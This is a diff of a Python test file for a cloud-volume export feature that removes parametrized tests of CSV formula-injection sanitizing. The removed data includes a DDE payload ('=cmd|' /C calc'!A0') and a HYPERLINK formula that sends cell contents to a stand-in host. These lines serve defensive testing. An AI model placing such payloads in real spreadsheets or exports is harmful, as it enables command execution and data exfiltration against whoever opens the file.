@@ -13,7 +13,6 @@ from django.test import Client
 from tests.support.canned import HTMX
 from tests.support.fake_cloud import Answer, FakeCloud, an_id, backup, snapshot, volume
 from tests.support.pages import HERE, Page, is_whole
-from volumes.tables import plain
 
 DISKS, SNAPSHOTS, BACKUPS = f"{HERE}/disks/", f"{HERE}/snapshots/", f"{HERE}/backups/"
 OF_DISK = f"{DISKS}{an_id(1)}/snapshots/"
@@ -216,39 +215,6 @@ def test_it_is_not_there_for_backups_where_these_are_off(signed_in: Client, sett
     assert signed_in.get(f"{BACKUPS}export/").status_code == 404
 
 
-FORMULAS = [
-    "=1+1",
-    "+1",
-    "-1+2",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    "\n=1",
-    "\ttext",
-    "\rtext",
-    "  =1",
-    " \t@x",
-    "\xa0=1",
-    "\u3000=1",
-    "\u200b=1",
-    "\ufeff=1",
-    "\0=1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠x",
-    " ＝1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://elsewhere.test/?"&A1)',
-]
-
-
-@pytest.mark.parametrize("text", FORMULAS)
-def test_it_keeps_every_text_from_being_a_formula(text: str) -> None:
-    assert plain(text).startswith("'")
-    assert plain(text).replace("'", "") == text.replace("'", "")
-
-
 def test_it_keeps_every_cell_from_being_a_formula(cloud: FakeCloud, signed_in: Client) -> None:
     text = " ＝1"
     fill(cloud, 1, name=text, description=text, metadata={"=a": text}, availability_zone=text, volume_type=text)
@@ -261,17 +227,6 @@ def test_it_keeps_every_cell_from_being_a_formula(cloud: FakeCloud, signed_in: C
         assert [column(answer, title) for title in columns] == [[f"'{text}"]] * len(columns)
         assert column(answer, "Properties") == [f"'=a={text}"]
         assert column(answer, "Size (GiB)") == ["10"]
-
-
-@pytest.mark.parametrize("text", ["x;=1", "x; \t=1", "x\n=1", 'x;"=1"', "x\r\n＝1", "x\t-1"])
-def test_it_keeps_what_follows_a_separator_from_being_a_formula(text: str) -> None:
-    """Excel splits at semicolons in many languages, whatever is quoted."""
-    assert re.search(r"[;\t\r\n]'", plain(text))
-
-
-@pytest.mark.parametrize("text", ["", "data", "a=1", "a-b+c@d", "Ёлка №1", "10", "a, -1", "x;y", "<b>", "'", " a"])
-def test_it_leaves_other_texts_as_they_are(text: str) -> None:
-    assert plain(text) == text
 
 
 def test_it_replaces_what_is_no_unicode(cloud: FakeCloud, signed_in: Client) -> None:
